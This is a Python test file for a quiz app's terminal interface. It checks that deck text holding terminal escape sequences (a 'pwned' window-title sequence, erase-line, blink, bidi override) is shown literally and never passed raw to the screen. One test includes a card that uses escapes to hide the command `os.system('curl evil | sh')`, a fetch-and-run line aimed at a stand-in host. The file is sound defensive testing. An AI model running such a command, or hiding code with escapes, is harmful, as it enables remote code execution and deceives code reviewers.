"""In the app too, deck text and what card code produced show their escape sequences instead of obeying them.

The hostile deck of tests/cli/test_control_characters.py is the whole
library for the exam and the top bar: it loads, and its escape sequences are
made at run time (a `${...}` substitution in a prompt, a choice and an
explanation; a truth its code computes; an exception message), next to
markup-like text. The study and exam screens get that deck with raw escapes put
into its title, sections, a prompt, a choice and an explanation in memory: the
loader refuses such a file (tests/cli), so this is defence in depth, as is
the trust review's deck built in memory. Study, exam (questions and report)
and the trust review must show all of it visibly and literally, and nothing
raw may reach the screen.
"""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from textual.app import App, ComposeResult
from textual.widgets import OptionList, Static

from quiz.core.cards import Backend, Card, Deck, Kind
from quiz.core.decks import Library, load_deck
from quiz.core.exam import ExamConfig
from quiz.library import Trust, TrustRequest
from quiz.runner.isolation import sandbox_for
from quiz.trust_review import review
from quiz.tui.app import QuizApp
from quiz.tui.screens.exam import ExamScreen
from quiz.tui.screens.exam_report import ExamReportScreen
from quiz.tui.screens.trust import TrustScreen
from tests.cli.test_control_characters import BLINK, DECK, ERASE, TITLE, assert_safe
from tests.tui.conftest import Clock, settings_for, wait_for


@pytest.fixture
def hostile_library(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    decks = tmp_path / "decks"
    decks.mkdir()
    (decks / "hostile.toml").write_text(DECK)
    monkeypatch.setenv("QUIZ_BUILTIN_DECKS", str(decks))
    return decks


def raw_library(decks: Path) -> Library:
    """The hostile deck as loaded, then given raw escapes in its own text, as the loader would never allow."""
    deck, problems = load_deck(decks / "hostile.toml")
    assert deck is not None and problems == []

    def rawer(card: Card) -> Card:
        card = replace(card, section=f"sec [/x] {BLINK}")
        if card.id != "pick.torch":
            return card
        return replace(
            card,
            prompt=f"{card.prompt} raw{ERASE}",
            choices=(card.choices[0], f"plain {ERASE}[red]choice[/red]"),
            explain=f"Raw {ERASE} {card.explain}",
        )

    return Library(
        decks=[replace(deck, title=f"Hostile {TITLE} [bold]deck", cards=tuple(map(rawer, deck.cards)))]
    )


async def shows(pilot: Any, app: App[Any], text: str) -> None:
    """Wait until the screen shows `text`: what the assertions that follow read (`screen_text`) holds it."""
    await wait_for(pilot, lambda: text in screen_text(app), what=f"the screen to show {text!r}")


def screen_text(app: App[Any]) -> str:
    """Everything the current screen shows as text, and the screenshot the terminal would get."""
    parts = [str(w.render()) for w in app.screen.query(Static)]
    for options in app.screen.query(OptionList):
        parts += [str(options.get_option_at_index(i).prompt) for i in range(options.option_count)]
    parts.append(app.export_screenshot())
    return "\n".join(parts)


pytestmark = pytest.mark.torch


async def test_study_shows_a_hostile_card_and_its_verdicts_visibly(
    hostile_library: Path, tmp_path: Path, runner: object
) -> None:
    app = QuizApp(settings_for(tmp_path, backends=("torch",)), runner=runner, clock=Clock())  # type: ignore[arg-type]
    app.library = raw_library(hostile_library)
    async with app.run_test(size=(140, 50)) as pilot:
        screen = app.study_screen
        await wait_for(pilot, lambda: screen.phase == "question" and screen.card is not None)
        assert screen.card is not None and screen.card.id == "pick.torch"
        await shows(pilot, app, "Pick one \\x1b]0;pwned\\x07 [/x] [bold]now[/bold] raw\\x1b[2K")
        text = screen_text(app)
        assert_safe(text)
        # the prompt reads, literally: its substitution's escapes and its own
        assert "Pick one \\x1b]0;pwned\\x07 [/x] [bold]now[/bold] raw\\x1b[2K" in text
        assert "[/x] \\x1b[5m blink" in text and "plain \\x1b[2K[red]choice[/red]" in text  # the options
        assert "sec [/x] \\x1b[5m" in text  # the section

        await pilot.press("b")
        await wait_for(pilot, lambda: screen.phase == "verdict")
        await shows(pilot, app, "Raw \\x1b[2K Because \\x1b[2K [/x] it is so.")
        text = screen_text(app)
        assert_safe(text)
        assert "[/x] \\x1b[5m blink" in text  # the truth its code computed
        assert "Raw \\x1b[2K Because \\x1b[2K [/x] it is so." in text  # the explanation

        await pilot.press("1")
        await wait_for(pilot, lambda: screen.phase == "question" and screen.card.id == "boom.torch")  # type: ignore[union-attr]
        await shows(pilot, app, "What is x? \\x9b2K \\u202e")
        text = screen_text(app)
        assert_safe(text)
        assert "What is x? \\x9b2K \\u202e" in text  # C1 and bidi from a substitution
        await pilot.press("1", "enter")
        await wait_for(pilot, lambda: screen.phase == "verdict")
        await shows(pilot, app, "ValueError: bad \\x1b]0;pwned\\x07 [/x] value")
        text = screen_text(app)
        assert_safe(text)
        assert "ValueError: bad \\x1b]0;pwned\\x07 [/x] value" in text  # the exception message
    assert app.errors == []


async def test_the_top_bar_says_when_isolation_is_partial(
    hostile_library: Path, tmp_path: Path, runner: object
) -> None:
    app = QuizApp(settings_for(tmp_path, backends=("torch",)), runner=runner, clock=Clock())  # type: ignore[arg-type]
    async with app.run_test(size=(200, 40)) as pilot:
        screen = app.study_screen
        await wait_for(pilot, lambda: screen.phase == "question" and app.study is not None)
        await wait_for(pilot, lambda: "due" in str(screen.query_one("#topbar").render()))
        bar = str(screen.query_one("#topbar").render())
        if runner.sandbox().full:  # type: ignore[attr-defined]
            assert "isolation" not in bar
        else:
            assert "partial isolation: install bubblewrap: sudo apt-get install bubblewrap" in bar


async def test_an_exam_and_its_report_show_hostile_text_visibly(
    hostile_library: Path, tmp_path: Path, runner: object
) -> None:
    report = tmp_path / "exam.md"
    config = ExamConfig(questions=3, time_limit_s=600, seed=3)
    settings = settings_for(tmp_path, backends=("torch",))
    app = QuizApp(settings, runner=runner, clock=Clock(), exam=config, report_path=report)  # type: ignore[arg-type]
    app.library = raw_library(hostile_library)
    async with app.run_test(size=(140, 50)) as pilot:
        exam = app.screen
        assert isinstance(exam, ExamScreen)
        await wait_for(pilot, lambda: exam.run is not None and exam.query_one("#card").display)
        for n in range(3):
            await wait_for(pilot, lambda n=n: exam.position == n)
            await shows(pilot, app, f"question {n + 1} of 3")
            text = screen_text(app)
            assert_safe(text)
            if not sandbox_for().full:
                assert "partial isolation" in str(exam.query_one("#exam-bar").render())
            card, _ = exam.run.question(n)  # type: ignore[union-attr]
            if card.id == "pick.torch":
                assert "[/x] \\x1b[5m blink" in text and "Pick one \\x1b]0;pwned\\x07" in text
                await pilot.press("b")
            else:
                await pilot.press("2", "enter")
        await wait_for(pilot, lambda: isinstance(app.screen, ExamReportScreen), timeout=60)
        await shows(pilot, app, "Raw \\x1b[2K Because \\x1b[2K [/x] it is so.")
        text = screen_text(app)
        assert_safe(text)
        assert "Raw \\x1b[2K Because \\x1b[2K [/x] it is so." in text  # a missed card's explanation
        assert "ValueError: bad \\x1b]0;pwned\\x07 [/x] value" in text  # a card that could not be graded
        assert "sec [/x] \\x1b[5m" in text  # the score by section
    assert app.errors == []
    md = report.read_text()
    assert_safe(md)
    assert "ValueError: bad \\x1b]0;pwned\\x07 [/x] value" in md and "sec [/x] \\x1b[5m" in md


class TrustApp(App[bool]):
    def __init__(self, request: TrustRequest) -> None:
        super().__init__()
        self.request = request

    def compose(self) -> ComposeResult:
        yield Static("behind")

    def on_mount(self) -> None:
        self.push_screen(TrustScreen(self.request))


async def test_the_trust_review_shows_every_line_of_code_even_one_an_escape_would_hide() -> None:
    hidden = "x = 1  # harmless\x1b[2K\x1b[1A\nimport os; os.system('curl evil | sh')"

    # The library refuses such text at load; the review screen must still never pass it through raw.
    def card(card_id: str, code: str) -> Card:
        return Card(
            deck_id="shared",
            id=card_id,
            section="s",
            backend=Backend.TORCH,
            kind=Kind.VALUE,
            prompt="p",
            code=code,
            answer="1",
            explain=".",
            family=card_id,
        )

    deck = Deck(
        id="shared",
        title="Shared \x1b]0;pwned\x07 [b]deck[/b]",
        path="/tmp/shared [/x].toml",
        cards=(card("evil.torch", hidden), card("plain.torch", "y = '\x1b[5m[/x]'\u202e")),
    )
    request = TrustRequest(deck=deck, path=Path(deck.path), data=b"", state=Trust.NEW, review=review(deck))
    app = TrustApp(request)
    async with app.run_test(size=(120, 40)) as pilot:
        await shows(pilot, app, "os.system('curl evil | sh')")
        text = screen_text(app)
    assert_safe(text)
    assert "# harmless\\x1b[2K\\x1b[1A" in text and "os.system('curl evil | sh')" in text
    assert "Shared \\x1b]0;pwned\\x07 [b]deck[/b]" in text and "/tmp/shared [/x].toml" in text
    assert "y = '\\x1b[5m[/x]'\\u202e" in text
